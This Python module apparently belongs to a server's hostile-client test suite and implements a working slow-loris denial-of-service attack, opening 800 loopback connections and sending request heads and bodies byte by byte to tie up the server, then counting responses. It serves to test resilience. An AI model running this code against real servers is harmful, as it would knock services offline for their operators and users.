"""Slow-loris: requests whose heads and bodies arrive byte by byte, on connections of four other addresses."""

from __future__ import annotations

import selectors
import socket
import time
from collections import Counter

from hostile.calls import connect_from

NAME = "800 requests byte by byte"
ADDRESSES = [f"127.0.0.{number}" for number in range(2, 6)]
LIMITED = True
_HEAD = b"GET /v1/topics HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Filler: " + b"a" * 10_000
_BODY = (
    b"POST /v1/topics/hostile-slow/events HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
    b"Content-Length: 1000000\r\n\r\n[" + b" " * 10_000
)


def attack(url: str, connections: int = 800, seconds: float = 45.0, pause: float = 0.5) -> Counter[str]:
    """Return how many requests the server ended with each status; the others were held until the end."""
    chosen = selectors.DefaultSelector()
    for number in range(connections):
        sock = connect_from(ADDRESSES[number % len(ADDRESSES)], url)
        text = _BODY if number % 2 else _HEAD
        begin = text.index(b"\r\n\r\n") + 5 if number % 2 else 40
        sock.sendall(text[:begin])
        chosen.register(sock, selectors.EVENT_READ, text[begin:])
    outcomes: Counter[str] = Counter()
    end, place = time.monotonic() + seconds, 0
    while chosen.get_map() and time.monotonic() < end:
        for key, _ in chosen.select(pause):
            outcomes[_status(key.fileobj)] += 1  # type: ignore[arg-type]
            chosen.unregister(key.fileobj)
        for key in list(chosen.get_map().values()):
            try:
                key.fileobj.send(key.data[place : place + 1])  # type: ignore[union-attr]
            except OSError:
                outcomes["closed"] += 1
                chosen.unregister(key.fileobj)
        place += 1
        time.sleep(pause)
    outcomes["held"] = len(chosen.get_map())
    return +outcomes


def _status(sock: socket.socket) -> str:
    try:
        answer = sock.recv(65_536)
    except OSError:
        return "closed"
    finally:
        sock.close()
    return answer.split()[1].decode() if answer.startswith(b"HTTP/1.1 ") else "closed"
